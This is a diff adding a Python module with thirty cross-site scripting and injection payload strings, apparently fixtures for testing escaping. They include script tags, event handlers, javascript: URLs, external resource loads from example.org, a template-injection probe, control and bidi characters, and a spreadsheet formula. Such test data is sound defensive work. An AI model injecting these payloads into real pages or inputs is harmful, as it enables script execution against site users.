@@ -1,0 +1,36 @@
+"""Thirty texts that would run a script, load something or break out of their place in a careless page."""
+
+from __future__ import annotations
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea></pre><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script href='https://example.org/x.js'/></svg>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "` onload=alert(1) `",
+    "<body onload=alert(1)>",
+    "<link rel=stylesheet href=//example.org/x.css>",
+    "<style>@import url(//example.org/x.css);*{background:url(//example.org/y)}</style>",
+    "<meta http-equiv=refresh content='0;url=//example.org'>",
+    "<base href=//example.org>",
+    "<object data=//example.org/x></object><embed src=//example.org/x>",
+    "<form action=//example.org><button>x</button></form>",
+    "<!--><script>alert(1)</script-->",
+    "]]><script>alert(1)</script>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "{{ ''.__class__.__mro__ }}{% raw %}",
+    "\u2028\u2029</script><script>alert(1)</script>",
+    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>\x1b]0;owned\x07",
+    "\u202e<script>\u202calert(1)\ud800",
+    '=HYPERLINK("https://example.org","x")<input autofocus onfocus=alert(1)>&lt;script&gt;',
+)
